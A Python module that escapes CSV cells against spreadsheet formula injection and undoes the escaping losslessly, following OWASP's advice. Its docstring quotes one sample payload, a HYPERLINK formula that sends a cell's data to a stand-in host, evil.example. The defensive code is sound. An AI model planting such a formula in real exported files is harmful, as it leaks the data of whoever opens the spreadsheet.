"""CSV cells that a spreadsheet cannot run as formulas, and back again.

Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-`, `@`, tab or carriage return
as a formula, so a service named `=HYPERLINK("http://evil.example/?leak="&B2,"Age UK")` would send an
officer's spreadsheet to that address. Following OWASP's advice on CSV injection, such a cell is written
with a leading apostrophe, which spreadsheets read as "this is text". A value that already starts with
apostrophes before one of those characters gets one more, so reading undoes exactly what writing did:
`unescape_cell(escape_cell(text)) == text` for every string, and a round trip loses nothing.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# What `str()` makes of a validated int or float; `-5` or `-2.15` evaluate to themselves, not to a call.
_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?")


def _needs_quote(text: str) -> bool:
    """True when `text` is (apostrophes, then) a character that starts a formula."""
    return text.lstrip(QUOTE)[:1] in FORMULA_START


def escape_cell(value: str, *, numeric: bool = False) -> str:
    """`value` made safe to open in a spreadsheet; a `numeric` column's plain numbers are left as numbers."""
    if numeric and _NUMBER.fullmatch(value):
        return value
    return QUOTE + value if _needs_quote(value) else value


def unescape_cell(value: str) -> str:
    """The text `escape_cell` was given: one apostrophe is removed only where `escape_cell` added it."""
    if value.startswith(QUOTE) and _needs_quote(value):
        return value[1:]
    return value
